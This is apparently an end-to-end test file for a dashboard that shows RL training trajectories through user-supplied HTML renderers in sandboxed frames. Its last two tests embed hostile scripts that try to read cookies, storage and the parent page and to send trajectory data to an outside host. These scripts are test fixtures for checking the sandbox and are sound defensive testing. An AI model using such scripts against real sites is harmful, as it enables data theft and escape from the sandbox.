import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expectFitsPhone } from "@/e2e/support/accessible";
import { makeWorkspace } from "@/e2e/support/open-workspace";
import type { Heddle } from "@/e2e/support/run-heddle";
import { expect, test } from "@/e2e/support/test";
import { registerModel, startJob } from "@/e2e/support/training-client";

const choice = (content: string) => ({
  finish_reason: "stop",
  index: 0,
  logprobs: null,
  message: { role: "assistant", content },
});

const game = (moves: readonly string[], reward: number) => ({
  messages_and_choices: [
    { role: "system", content: "Play tic-tac-toe. You are X." },
    ...moves.map((move, at) =>
      at % 2 === 0 ? choice(`I take ${move}.`) : { role: "user", content: `O takes ${move}` },
    ),
  ],
  reward,
  metadata: { game: "tic-tac-toe" },
});

const chat = { ...game([], 0.5), metadata: { game: "none" }, messages_and_choices: [choice("Only words")] };

const GROUPS = [{ trajectories: [game(["b2", "a1", "c3"], 1), game(["a1", "b2"], 0), chat] }];

async function openRollouts(page: Page, heddle: Heddle, project: string): Promise<string> {
  const slug = await makeWorkspace(page, heddle.url, project);
  const modelId = await registerModel(heddle.serviceUrl, project, "player");
  const jobId = await startJob(heddle.serviceUrl, modelId, GROUPS);
  await page.goto(`/${slug}/training/${jobId}/rollouts`);
  await expect(page.getByText("I take b2.")).toBeVisible();
  return slug;
}

/** Adds a renderer from a file, by the dialog of the page. */
async function addRenderer(page: Page, file: string | { name: string; mimeType: string; buffer: Buffer }, key: string) {
  await page.getByRole("button", { name: /^Shown/ }).click();
  await page.getByRole("menuitem", { name: "Manage renderers" }).click();
  const dialog = page.getByRole("dialog", { name: "Renderers" });
  await dialog.getByLabel("Choose an HTML file").setInputFiles(file);
  await dialog.getByLabel("Key in metadata").fill(key);
  if (key !== "") await dialog.getByLabel("Its value").fill("tic-tac-toe");
  await dialog.getByRole("button", { name: "Add" }).click();
  await expect(dialog.getByRole("list", { name: "Renderers of this workspace" })).toBeVisible();
  await dialog.getByRole("button", { name: "Done" }).click();
}

async function choose(page: Page, name: string | RegExp): Promise<void> {
  await page.getByRole("button", { name: /^Shown/ }).click();
  await page.getByRole("menuitemradio", { name }).click();
}

const html = (name: string, text: string) => ({ name, mimeType: "text/html", buffer: Buffer.from(text) });

test("a renderer shows the trajectories that it is for to everyone in the workspace, and one that throws says why", async ({
  page,
  heddle,
  project,
  joinAs,
}) => {
  await openRollouts(page, heddle, project);
  await addRenderer(page, "docs/examples/trajectory-renderer/tic-tac-toe.html", "game");
  await choose(page, /^tic-tac-toe/);
  await expect(page).toHaveURL(/renderer=/);
  const frame = page.frameLocator('iframe[title="tic-tac-toe, trajectory 0"]');
  await expect(frame.getByText("3 moves, reward 1")).toBeVisible();
  await expect(frame.getByRole("listitem")).toHaveCount(3);
  await expect(frame.getByText("X to c3")).toBeVisible();
  // The frame is as high as its document.
  const box = await page.locator("iframe").first().boundingBox();
  expect(box?.height).toBeGreaterThan(100);
  // Another kind of trajectory stays text.
  await expect(page.getByText("Only words")).toBeVisible();
  await expect(page.locator("iframe")).toHaveCount(2);
  await expectFitsPhone(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await expect(frame.locator("html")).toHaveAttribute("data-theme", "dark");

  const { page: other } = await joinAs("viewer");
  await other.goto(page.url());
  await expect(
    other.frameLocator('iframe[title="tic-tac-toe, trajectory 1"]').getByText("2 moves, reward 0"),
  ).toBeVisible();
  await other.getByRole("button", { name: "Shown by tic-tac-toe" }).click();
  await expect(other.getByRole("menuitem", { name: "Manage renderers" })).toHaveCount(0);

  await choose(page, "Messages");
  await expect(page.getByText("I take b2.")).toBeVisible();
  await expect(page.locator("iframe")).toHaveCount(0);

  await addRenderer(page, html("broken.html", "<p>half</p>\n<script>\nheddle.missing.member;\n</script>"), "");
  await choose(page, /^broken/);
  await expect(page.getByRole("alert").filter({ hasText: "broken failed" }).first()).toContainText("undefined");
});

/** Tries to reach the dashboard and the network in each way that a page knows, and writes what it could do. */
const HOSTILE = `<!doctype html><title>hostile</title><p id="done"></p><script>
const reached = [];
const attempt = async (name, act) => { try { await act(); reached.push(name); } catch {} };
(async () => {
  await attempt("cookie", () => { if (document.cookie === "") throw 0; });
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location.href = "about:blank"; });
  await attempt("popup", () => { if (open("about:blank") === null) throw 0; });
  await attempt("fetch", () => fetch(OUTSIDE));
  await attempt("eval", () => eval("1"));
  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(OUTSIDE.replace("http", "ws")); s.onopen = yes; s.onerror = no; }));
  await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = OUTSIDE; }));
  await attempt("script", () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = OUTSIDE; document.head.append(s); }));
  document.getElementById("done").textContent = "reached: " + (reached.join(", ") || "nothing");
})();
</script>`;

/** Another site, which answers every request, from everywhere. */
async function withOtherSite(use: (url: string, requests: readonly string[]) => Promise<void>): Promise<void> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  try {
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

test("a hostile renderer reaches neither the dashboard nor a network, and stays inside its frame", async ({
  page,
  heddle,
  project,
}) => {
  await openRollouts(page, heddle, project);
  await withOtherSite(async (url, requests) => {
    await addRenderer(page, html("hostile.html", HOSTILE.replaceAll("OUTSIDE", JSON.stringify(url))), "");
    await choose(page, /^hostile/);
    const frame = page.frameLocator('iframe[title="hostile, trajectory 0"]');
    await expect(frame.getByText(/^reached/)).toHaveText("reached: nothing");
    expect(requests).toEqual([]);
  });
  await expect(page.getByRole("heading", { name: "Rollouts" })).toBeVisible();
});

test("a renderer can send what it shows to no other site", async ({ page, heddle, project }) => {
  await openRollouts(page, heddle, project);
  await withOtherSite(async (url, requests) => {
    const away = `<script>location.href = "${url}/?" + heddle.trajectory.reward;</script>`;
    await addRenderer(page, html("away.html", away), "");
    const refused = page.waitForEvent("console", { predicate: (entry) => entry.text().includes(url) });
    await choose(page, /^away/);
    expect((await refused).text()).toContain("Content Security Policy");
    expect(requests).toEqual([]);
  });
});
